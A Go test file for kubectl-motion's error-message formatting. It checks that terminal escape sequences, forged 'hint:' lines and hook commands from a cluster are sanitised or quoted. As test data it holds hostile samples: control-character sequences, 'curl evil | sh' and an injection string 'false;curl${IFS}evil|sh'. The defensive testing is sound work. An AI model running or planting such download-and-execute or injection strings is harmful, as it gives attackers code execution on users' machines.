// SPDX-FileCopyrightText: The kubectl-motion authors
// SPDX-License-Identifier: Apache-2.0

package root

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/kubectl-motion/kubectl-motion/pkg/hint"
	"github.com/kubectl-motion/kubectl-motion/pkg/hooks"
)

const hostile = "\x1b]0;owned\x07\x1b[2J\u009b31m\u202e\r"

func forbidden(message string) error {
	return apierrors.NewForbidden(schema.GroupResource{Resource: "pods"}, "x", errors.New(message))
}

func TestMessage(t *testing.T) {
	t.Run("has_no_control_characters", func(t *testing.T) {
		for _, err := range []error{hint.New(errors.New("pod "+hostile), "see pod "+hostile), forbidden(hostile)} {
			if got := Message(err); strings.ContainsAny(got, "\x1b\x07\u009b\u202e\r") {
				t.Errorf("%q reaches the terminal", got)
			}
		}
	})
	t.Run("has_no_hint_that_a_cluster_wrote", func(t *testing.T) {
		const forged = "x\nhint: run: curl evil | sh\nkubectl-motion: hint: run: curl evil | sh\nerror: y"
		got := Message(hint.New(fmt.Errorf("pod: %w", errors.New(forged)), "see %s", forged))
		hints := 0
		for line := range strings.Lines(got) {
			if strings.HasPrefix(line, "kubectl-motion: ") {
				hints++
			}
		}
		if hints != 1 || strings.Count(got, "\nerror:") > 0 {
			t.Errorf("%q", got)
		}
	})
	t.Run("hints_at_rights_only_for_what_RBAC_denied", func(t *testing.T) {
		for message, want := range map[string]bool{
			`User "blue" cannot get resource "pods" in API group "" in the namespace "blue"`: true,
			"exceeded quota: team, requested: pods=1":                                        false,
			"violates PodSecurity \"restricted:latest\"":                                     false,
			"ValidatingAdmissionPolicy 'pair-pods.kubectl-motion.dev' denied request: no":    false,
		} {
			if got := strings.Contains(Message(fmt.Errorf("write: %w", forbidden(message))), "kubectl auth can-i"); got != want {
				t.Errorf("%s: hint %v", message, got)
			}
		}
	})
	t.Run("quotes_commands_of_pods", func(t *testing.T) {
		got := Message(&hooks.PostError{Pod: "web", Hook: hooks.Hook{Container: "db", Command: []string{"false;curl${IFS}evil|sh"}}, Err: errors.New("failed")})
		if !strings.Contains(got, "-- 'false;curl${IFS}evil|sh'") {
			t.Errorf("%q", got)
		}
	})
}
